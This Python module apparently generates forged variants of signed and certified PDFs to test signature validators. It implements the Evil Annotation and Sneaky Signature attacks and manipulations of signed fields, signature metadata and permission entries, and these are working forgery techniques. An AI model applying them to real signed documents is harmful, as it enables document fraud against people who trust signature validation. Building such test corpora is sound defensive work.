"""Attacks on certifications, signature fields and annotations.

Rohlmann, Mladenov, Mainka, Schwenk: Breaking the Specification - PDF Certification, IEEE S&P 2021
(evil annotation, sneaky signature).
"""

from __future__ import annotations

import re

from support.attacks_family import Family, Forge
from support.attacks_raw import (
    EVIL,
    appended,
    body,
    page_number,
    place,
    reader,
    references,
    root,
    size,
    stream,
)

EAA = Family("Evil annotation", "IEEE S&P 2021")
SSA = Family("Sneaky signature", "IEEE S&P 2021")
RIGHTS = Family("Rights and signature fields", "IEEE S&P 2021, EU DSS")

_FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 300 300]"
_RECT = b"/Rect [0 0 300 300]"

_ANNOTATIONS = {
    "Text": b"/Contents (x)",
    "Link": b"/A << /S /URI /URI (http://localhost) >>",
    "FreeText": b"/Contents (Da huy) /DA (/Helv 20 Tf)",
    "Line": b"/L [0 0 300 300]",
    "Square": b"/IC [1 1 1]",
    "Circle": b"/IC [1 1 1]",
    "Polygon": b"/Vertices [0 0 300 0 300 300]",
    "PolyLine": b"/Vertices [0 0 300 0 300 300]",
    "Highlight": b"/QuadPoints [0 0 300 0 0 300 300 300]",
    "Underline": b"/QuadPoints [0 0 300 0 0 300 300 300]",
    "Squiggly": b"/QuadPoints [0 0 300 0 0 300 300 300]",
    "StrikeOut": b"/QuadPoints [0 0 300 0 0 300 300 300]",
    "Stamp": b"/Name /Approved",
    "Caret": b"",
    "Ink": b"/InkList [[0 0 300 300]]",
    "Popup": b"",
    "FileAttachment": b"/FS << /Type /Filespec /F (a) >>",
    "Sound": b"",
    "Movie": b"",
    "Screen": b"",
    "PrinterMark": b"",
    "TrapNet": b"",
    "Watermark": b"",
    "3D": b"",
    "Redact": b"",
    "Projection": b"",
    "RichMedia": b"",
}


def with_annotation(
    data: bytes, annotation: bytes, more: dict[int, bytes] | None = None, field: int = 0
) -> bytes:
    """An update with one more annotation on the first page; ``field`` puts it into the form, too."""
    new = size(data) + 1
    number = page_number(data)
    page = reader(data).root["/Pages"]["/Kids"][0]
    objects = {new: annotation, **(more or {})}
    annotations = page.get("/Annots")
    refs = references(annotations)
    fresh = b"[%s %d 0 R]" % (refs, new)
    raw = page.raw_get("/Annots") if annotations is not None else None
    if raw is not None and hasattr(raw, "idnum"):
        objects[int(raw.idnum)] = fresh
    else:
        text = re.sub(rb"/Annots ?\[[^\]]*\]", b"", body(data, number))
        objects[number] = text[: text.rindex(b">>")] + b"/Annots %s >>" % fresh
    if field:
        form = reader(data).root.raw_get("/AcroForm")
        if hasattr(form, "idnum"):
            text = body(data, int(form.idnum))
            holder = int(form.idnum)
        else:
            holder, text = root(data), body(data, root(data))
        fields = reader(data).root["/AcroForm"].raw_get("/Fields")
        if hasattr(fields, "idnum"):
            refs = references(fields.get_object())
            objects[int(fields.idnum)] = b"[%s %d 0 R]" % (refs, field)
        else:
            objects[holder] = re.sub(rb"/Fields ?\[([^\]]*)\]", rb"/Fields [\1 %d 0 R]" % field, text)
    return appended(data, objects)


def _annotated(kind: str, entries: bytes, flags: int) -> Forge:
    def forge(data: bytes) -> bytes:
        new = size(data) + 1
        annotation = b"<< /Type /Annot /Subtype /%s %s /F %d /AP << /N %d 0 R >> %s >>" % (
            kind.encode(),
            _RECT,
            flags,
            new + 1,
            entries,
        )
        return with_annotation(data, annotation, {new + 1: stream(EVIL, _FORM)})

    return forge


for _kind, _entries in _ANNOTATIONS.items():
    EAA.add(_kind, _annotated(_kind, _entries, 4))
for _flags in (0, 2, 64, 128, 132):
    EAA.add(f"FreeText, flags {_flags}", _annotated("FreeText", b"", _flags))


def _field(name: bytes, kind: bytes, rect: bytes, more: bytes = b"", *, bound: bool = True) -> Forge:
    """A new form field whose widget paints the page black."""

    def forge(data: bytes) -> bytes:
        new = size(data) + 1
        widget = b"<< /Type /Annot /Subtype /Widget /FT /%s /T (%s) /Rect %s /F 4 /P %d 0 R %s" % (
            kind,
            name,
            rect,
            page_number(data),
            more.replace(b"{new}", b"%d" % new),
        )
        widget += b" /AP << /N %d 0 R >> >>" % (new + 1)
        objects = {
            new + 1: stream(EVIL, _FORM),
            new + 2: b"<< /Type /DocTimeStamp /Filter /Adobe.PPKLite /SubFilter /ETSI.RFC3161"
            b" /ByteRange [0 1 2 3] /Contents <3000> >>",
            new + 3: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached"
            b" /ByteRange [0 1 2 3] /Contents <3000> >>",
            new + 4: b"<< /Type /Sig /Filter /Nobody /SubFilter /nobody.knows >>",
            new + 5: b"<< /Type /Annot /Subtype /Widget /Parent %d 0 R %s /F 4 /AP << /N %d 0 R >> >>"
            % (new, _RECT, new + 1),
        }
        used = {
            key: value
            for key, value in objects.items()
            if b"%d 0 R" % key in widget or b"%d 0 R" % key in more
        }
        return with_annotation(data, widget, {new + 1: objects[new + 1], **used}, field=new if bound else 0)

    return forge


def _sneaky(name: str, kind: bytes, rect: bytes, after: int = 0, more: bytes = b"") -> None:
    """Register a field whose value is the object that comes ``after`` so many others."""

    def forge(data: bytes) -> bytes:
        value = b"/V %d 0 R" % (size(data) + 1 + after) if after else b""
        return _field(b"Evil", kind, rect, value + more)(data)

    SSA.add(name, forge, certain=after != 4)


for _where, _rect in {
    "all over the page": b"[0 0 300 300]",
    "upside down": b"[300 300 0 0]",
    "a line": b"[0 0 300 0]",
    "nowhere": b"[0 0 0 0]",
}.items():
    if _where in {"all over the page", "upside down"}:
        _sneaky(f"empty signature field {_where}", b"Sig", _rect)
        _sneaky(f"false time stamp {_where}", b"Sig", _rect, 2)
    _sneaky(f"false signature {_where}", b"Sig", _rect, 3)
    _sneaky(f"signature of an unknown kind {_where}", b"Sig", _rect, 4)
    _sneaky(f"text field {_where}", b"Tx", _rect, 0, b"/V (x)")
    _sneaky(f"button {_where}", b"Btn", _rect)
    _sneaky(f"choice {_where}", b"Ch", _rect)
_sneaky(
    "empty signature field with a lock",
    b"Sig",
    _RECT[6:],
    0,
    b" /Lock << /Type /SigFieldLock /Action /All >>",
)
_sneaky(
    "empty signature field that acts", b"Sig", b"[0 0 0 0]", 0, b" /AA << /E << /S /JavaScript /JS (x) >> >>"
)
_sneaky("empty signature field with an action", b"Sig", b"[0 0 0 0]", 0, b" /A << /S /JavaScript /JS (x) >>")


@SSA
def invisible_field_with_a_visible_widget(data: bytes) -> bytes:
    """The field lies nowhere; its widget, in /Kids, lies on the page."""
    new = size(data) + 1
    kid = b"<< /Type /Annot /Subtype /Widget /Parent %d 0 R %s /F 4 /AP << /N %d 0 R >> >>" % (
        new + 2,
        _RECT,
        new + 1,
    )
    field = b"<< /FT /Sig /T (Evil) /Rect [0 0 0 0] /Kids [%d 0 R] >>" % new
    return with_annotation(data, kid, {new + 1: stream(EVIL, _FORM), new + 2: field}, field=new + 2)


for _where, _rect in {
    "of references": b"[{zero} {zero} {far} {far}]",
    "of five numbers": b"[0 0 300 300 0]",
    "of strings": b"[(0) (0) (300) (300)]",
    "that is a reference": b"{array}",
}.items():

    def _odd(data: bytes, rect: bytes = _rect) -> bytes:
        new = size(data) + 1
        numbers = {b"{zero}": new + 10, b"{far}": new + 11, b"{array}": new + 12}
        for mark, number in numbers.items():
            rect = rect.replace(mark, b"%d 0 R" % number)
        parts = {new + 10: b"0", new + 11: b"300", new + 12: b"[%d 0 R 0 300 300]" % (new + 10)}
        widget = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Evil) /Rect %s /F 4 >>" % rect
        return with_annotation(data, widget, parts, field=new)

    SSA.add(f"empty signature field with a place {_where}", _odd)


@SSA
def appearance_that_is_the_page(data: bytes) -> bytes:
    """The appearance of a new signature field is the content stream of the page, redefined."""
    from support.attacks_raw import content_number

    new, old = size(data) + 1, content_number(data)
    widget = (
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Evil) /Rect [0 0 9 9] /F 4 /AP << /N %d 0 R >> >>"
        % old
    )
    return with_annotation(data, widget, {old: stream(EVIL, _FORM)}, field=new)


@SSA
def field_with_the_name_of_the_signed_one(data: bytes) -> bytes:
    """Two fields of one name."""
    at = place(data)
    name = re.findall(rb"/T \(([^)]*)\)", data[: at.before])[-1]
    return _field(name, b"Sig", b"[0 0 300 300]")(data)


def _signed_field(data: bytes) -> int:
    """Object number of the field of the last signature."""
    at = place(data)
    fields = reader(data).root["/AcroForm"]["/Fields"]
    for index in range(len(fields)):
        if "/V" in fields[index] and fields[index].raw_get("/V").idnum == at.number:
            return int(fields.raw_get(index).idnum)
    raise AssertionError


def _changed_field(pattern: bytes, other: bytes) -> Forge:
    def forge(data: bytes) -> bytes:
        number = _signed_field(data)
        new = re.sub(pattern, lambda _: other, body(data, number), count=1, flags=re.DOTALL)
        assert new != body(data, number)
        return appended(data, {number: new})

    return forge


_END = rb">>$"
for _name, _pattern, _other in (
    ("other name", rb"/T \([^)]*\)", b"/T (Chu tich)"),
    ("other place", rb"/Rect \[[^\]]*\]", b"/Rect [0 0 300 300]"),
    ("alternative name", _END, b"/TU (Chu tich) >>"),
    ("becomes text", rb"/FT /Sig", b"/FT /Tx"),
    ("becomes another annotation", rb"/Subtype /Widget", b"/Subtype /Stamp"),
    ("becomes hidden", rb"/F \d+", b"/F 2"),
    ("acts", _END, b"/AA << /E << /S /JavaScript /JS (x) >> >> >>"),
    ("gets kids", _END, b"/Kids [3 0 R] >>"),
    ("gets a border", _END, b"/MK << /BG [0 0 0] >> >>"),
    ("is unlocked", _END, b"/Lock << /Type /SigFieldLock /Action /Include /Fields [] /P 3 >> >>"),
):
    RIGHTS.add(f"signed field {_name}", _changed_field(_pattern, _other))


@RIGHTS
def signed_field_gets_another_appearance(data: bytes) -> bytes:
    """The stamp of a signature is redrawn."""
    number, new = _signed_field(data), size(data) + 1
    text = re.sub(rb"/AP <<.*?>>", b"", body(data, number), flags=re.DOTALL)
    text = text[: text.rindex(b">>")] + b"/AP << /N %d 0 R >> >>" % new
    return appended(data, {number: text, new: stream(EVIL, _FORM)})


@RIGHTS
def value_moved_to_another_dictionary(data: bytes) -> bytes:
    """The field's value is a copy of the signature without its reference."""
    number, at, new = _signed_field(data), place(data), size(data) + 1
    text = body(data, number).replace(b"/V %d 0 R" % at.number, b"/V %d 0 R" % new)
    from support.attacks_wrapping import signature

    return appended(data, {number: text, new: signature(at, b"<%s>" % at.contents.hex().encode())})


@RIGHTS
def value_taken_away(data: bytes) -> bytes:
    """The field is empty again."""
    at = place(data)
    return _changed_field(rb"/V %d 0 R" % at.number, b"")(data)


def _changed_signature(pattern: bytes, other: bytes) -> Forge:
    def forge(data: bytes) -> bytes:
        at = place(data)
        head = data.rindex(b"%d 0 obj" % at.number, 0, at.before)
        whole = data[head : data.index(b"endobj", at.after)].partition(b"obj")[2]
        new = re.sub(pattern, lambda _: other, whole, count=1, flags=re.DOTALL)
        return appended(data, {at.number: new + b" " if new == whole else new})

    return forge


_LAST = rb">>\s*$"
for _name, _pattern, _other in (
    ("other time", rb"/M \([^)]*\)", b"/M (D:20200101000000Z)"),
    ("other name", _LAST, b"/Name (Chu tich) >>"),
    ("other reason", _LAST, b"/Reason (Huy) >>"),
    ("other place", _LAST, b"/Location (x) /ContactInfo (x) >>"),
    ("becomes a time stamp", rb"/Type /Sig\b", b"/Type /DocTimeStamp"),
    ("other kind", rb"/SubFilter /[\w.]+", b"/SubFilter /adbe.pkcs7.detached"),
    ("rights loosened", rb"/P 1\b", b"/P 3"),
    ("reference taken away", rb"/Reference \[.*?\] *\n", b""),
    ("written anew", rb"\n", b"\n"),
):
    RIGHTS.add(f"signature {_name}", _changed_signature(_pattern, _other))


@RIGHTS
def rights_taken_out_of_the_catalogue(data: bytes) -> bytes:
    """The catalogue no longer names the certification."""
    old = body(data, root(data))
    new = re.sub(rb"/Perms <<.*?>>", b"", old, flags=re.DOTALL)
    if new == old:
        new = old[: old.rindex(b">>")] + b"/Perms << /DocMDP %d 0 R >> >>" % place(data).number
    return appended(data, {root(data): new})


@RIGHTS
def form_taken_out_of_the_catalogue(data: bytes) -> bytes:
    """The form, and with it every signature, is gone; the widgets stay."""
    old = body(data, root(data))
    new = re.sub(rb"/AcroForm (\d+ 0 R|<<.*?>>)", b"", old, flags=re.DOTALL)
    return appended(data, {root(data): new})
